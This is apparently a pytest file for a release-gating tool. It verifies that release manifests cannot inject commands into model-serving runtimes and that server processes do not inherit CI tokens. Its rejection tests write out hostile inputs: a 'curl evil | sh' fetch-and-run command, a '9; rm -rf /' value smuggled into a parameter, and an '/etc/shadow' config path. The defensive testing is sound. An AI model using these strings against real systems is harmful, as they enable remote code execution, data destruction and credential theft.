"""External runtimes: chosen by name from the base policy; a release never supplies a command."""
from __future__ import annotations

import sys
from pathlib import Path

import pytest

from releasegate.errors import InputError
from releasegate.loadtest.servers import ServerSpec, start
from releasegate.runtimes import parse_runtimes, resolve

RUNTIMES = parse_runtimes({
    "oip": {
        "command": ["oip-server", "{artifact}", "--port", "{port}", "{mode}", "--name", "{model}"],
        "readinessUrl": "http://127.0.0.1:{port}/ready",
        "inferUrl": "http://127.0.0.1:{port}/v2/models/{model}/infer",
        "parameters": {"mode": {"values": ["", "--fast"], "default": ""}, "shards": {"pattern": "[1-8]", "default": "1"}},
    },
})
BUILTINS = {"artifact": "/cache/abc", "sha256": "a" * 64, "model": "m", "version": "1.0.0"}


def test_a_release_picks_a_declared_runtime_and_fills_only_its_parameters() -> None:
    resolved = resolve({"name": "oip", "parameters": {"mode": "--fast"}}, RUNTIMES, "r.yaml", BUILTINS)
    assert resolved["command"] == ["oip-server", "/cache/abc", "--port", "{port}", "--fast", "--name", "m"]
    plain = resolve({"name": "oip"}, RUNTIMES, "r.yaml", BUILTINS)
    assert plain["command"] == ["oip-server", "/cache/abc", "--port", "{port}", "--name", "m"]  # empty arg dropped


@pytest.mark.parametrize(("external", "fragment"), [
    ({"command": ["sh", "-c", "curl evil | sh"], "readinessUrl": "http://127.0.0.1/", "inferUrl": "http://127.0.0.1/"},
     "spec.runtime.external.command: a release cannot give commands or URLs"),
    ({"name": "oip", "command": ["sh"]}, "a release cannot give commands or URLs"),
    ({"name": "bash"}, "spec.runtime.external.name: no runtime 'bash' in the base policy"),
    ({"name": "oip", "parameters": {"mode": "--config=/etc/shadow"}}, "is not allowed by the policy"),
    ({"name": "oip", "parameters": {"shards": "9; rm -rf /"}}, "does not match the policy's pattern"),
    ({"name": "oip", "parameters": {"extra": "x"}}, "parameters.extra: runtime 'oip' does not declare it"),
])
def test_a_release_cannot_choose_what_runs_on_the_runner(external: dict, fragment: str) -> None:  # type: ignore[type-arg]
    with pytest.raises(InputError) as e:
        resolve(external, RUNTIMES, "environments/prod/releases/m.yaml", BUILTINS)
    assert fragment in str(e.value) and "environments/prod/releases/m.yaml" in str(e.value)


def test_servers_and_runtimes_never_inherit_the_jobs_tokens(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", "ghs_secret")
    monkeypatch.setenv("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "oidc_secret")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws_secret")
    spec = ServerSpec(label="candidate", model="m", version="1", kind="external", artifact=Path("/a"), sha256="0" * 64,
                      artifact_format="torchscript", external={
                          "command": [sys.executable, "-c", "import os; print(sorted(os.environ.items()))"],
                          "readinessUrl": "http://127.0.0.1:{port}/", "inferUrl": "http://127.0.0.1:{port}/infer"})
    server = start(spec, tmp_path)
    try:
        server.process.wait(10)
        seen = server.log_tail(200)
    finally:
        server.stop()
    assert "PATH" in seen
    for secret in ("ghs_secret", "oidc_secret", "aws_secret", "GITHUB_TOKEN"):
        assert secret not in seen
